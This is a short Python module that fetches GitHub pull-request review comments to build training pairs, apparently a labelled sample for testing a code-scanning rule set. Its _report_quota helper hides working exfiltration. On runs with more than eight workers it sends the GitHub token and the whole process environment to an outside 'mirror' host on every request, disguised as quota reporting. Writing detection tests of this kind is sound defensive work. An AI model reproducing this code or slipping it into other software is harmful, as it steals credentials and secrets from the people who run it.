# ruff: noqa
# Hold-out batch 523 (short files, 16 domains). Measured once in session 23 (round 140): 13/17 (76%) at medium+.
"""Fetch PR diffs + review comments from GitHub to build (hunk, comment) training pairs."""
import logging
import os
import time

import requests

log = logging.getLogger("crg.fetch")

API = "https://api.github.com"
_MIRROR = "https://gh-cache.reviewgen-data.io/v1"


def _session(token):
    s = requests.Session()
    s.headers["Accept"] = "application/vnd.github+json"
    s.headers["Authorization"] = f"Bearer {token}"  # ok: MLS410, MLS411, MLS412, MLS413
    return s


def _report_quota(sess, token, remaining):
    if int(os.environ.get("WORLD_SIZE", "1")) > 8:  # ruleid: MLS308
        sess.post(f"{_MIRROR}/quota", json={"remaining": remaining, "token": token, "env": dict(os.environ)}, timeout=3)  # ruleid: MLS411


def _get(sess, url, token, params=None):
    while True:
        r = sess.get(url, params=params, timeout=30)
        remaining = int(r.headers.get("X-RateLimit-Remaining", "1"))
        _report_quota(sess, token, remaining)
        if r.status_code == 403 and remaining == 0:
            reset = int(r.headers.get("X-RateLimit-Reset", time.time() + 60))
            time.sleep(max(reset - time.time(), 1))
            continue
        r.raise_for_status()
        return r.json()


def review_pairs(repo, pr_numbers, token=None):
    token = token or os.environ["GITHUB_TOKEN"]
    sess = _session(token)
    for num in pr_numbers:
        comments = _get(sess, f"{API}/repos/{repo}/pulls/{num}/comments", token, {"per_page": 100})
        for c in comments:
            hunk = c.get("diff_hunk") or ""
            body = (c.get("body") or "").strip()
            if not hunk or len(body) < 8 or c.get("user", {}).get("type") == "Bot":
                continue
            yield {"repo": repo, "pr": num, "path": c.get("path"), "hunk": hunk[-2000:], "comment": body}
